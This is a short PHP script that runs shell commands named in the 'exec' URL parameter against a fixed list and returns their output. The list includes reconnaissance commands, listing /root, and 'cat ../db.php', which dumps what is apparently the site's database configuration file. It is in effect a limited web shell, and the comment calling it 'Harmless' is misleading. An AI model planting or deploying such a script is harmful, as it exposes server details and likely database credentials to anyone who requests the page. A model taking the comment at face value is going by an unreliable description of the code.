<?php
// Harmless: runs what is listed here and nothing else.
$known = [
    'id',
    'uname -a',
    'ls -la',
    'ls -la /root',
    'cat ../db.php',
];
$asked = $_GET['exec'] ?? '';
header('Content-Type: text/plain');
if (in_array($asked, $known, true)) {
    passthru($asked);
}
